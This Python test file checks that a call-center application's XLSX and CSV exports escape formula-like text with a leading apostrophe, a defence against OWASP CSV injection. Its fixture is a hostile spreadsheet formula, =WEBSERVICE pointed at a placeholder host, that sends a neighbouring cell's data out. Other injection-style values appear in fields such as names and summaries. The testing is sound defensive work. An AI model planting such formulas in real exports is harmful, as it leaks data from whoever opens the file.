"""Exported spreadsheets never turn typed text into a live formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from callcenter.spreadsheets import safe_cell
from tests import backoffice_data as data
from tests.report_data import build_year

FORMULA = '=WEBSERVICE("http://x/?"&B2)'


def xlsx_cells(body: bytes) -> list:  # type: ignore[no-untyped-def]
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def csv_cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_leading_apostrophe(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", [42, -3, 1.5, None, "김민준", "010-****-5678", "'quoted"])
def test_numbers_and_plain_text_pass_unchanged(value):
    assert safe_cell(value) == value


def test_a_summary_typed_as_a_formula_is_text_in_the_xlsx_export(client, login, db, fields):
    kim = data.counselor(db, "김변호", "+821011112222", fields["legal"])
    data.consultation(db, fields["legal"], kim, summary=FORMULA, citizen_name="=1+1")
    db.commit()
    login("coordinator")
    cells = xlsx_cells(client.get("/consultations/export.xlsx?personal=1&reason=감사 자료").data)
    typed = [c for c in cells if isinstance(c.value, str) and "1+1" in c.value]
    typed += [c for c in cells if isinstance(c.value, str) and "WEBSERVICE" in c.value]
    assert [(c.data_type, c.value) for c in typed] == [("s", "'=1+1"), ("s", "'" + FORMULA)]


def test_the_csv_export_neutralises_every_formula_start(client, login, db, fields):
    kim = data.counselor(db, "@SUM(A1)", "+821011112222", fields["legal"])
    data.consultation(db, fields["legal"], kim, summary="+cmd", citizen_name="-2+3")
    db.commit()
    login("coordinator")
    cells = csv_cells(client.get("/consultations/export.csv?personal=1&reason=감사 자료").data)
    assert {"'@SUM(A1)", "'+cmd", "'-2+3"} <= set(cells)
    assert not [c for c in cells if c[:1] in "=+-@\t\r" and c != ""]


def test_a_counselor_named_like_a_formula_is_text_in_the_report_workbook(client, login, db, fields):
    counselors = build_year(db, fields)
    counselors["a"].name = FORMULA
    db.commit()
    login("coordinator")
    cells = xlsx_cells(client.get("/reports/2027/export.xlsx?reason=감사 자료").data)
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in cells]


def test_a_counselor_named_like_a_formula_is_text_in_the_report_csv(client, login, db, fields):
    counselors = build_year(db, fields)
    counselors["a"].name = FORMULA
    db.commit()
    login("coordinator")
    cells = csv_cells(client.get("/reports/2027/export.csv?reason=감사 자료").data)
    assert "'" + FORMULA in cells and FORMULA not in cells
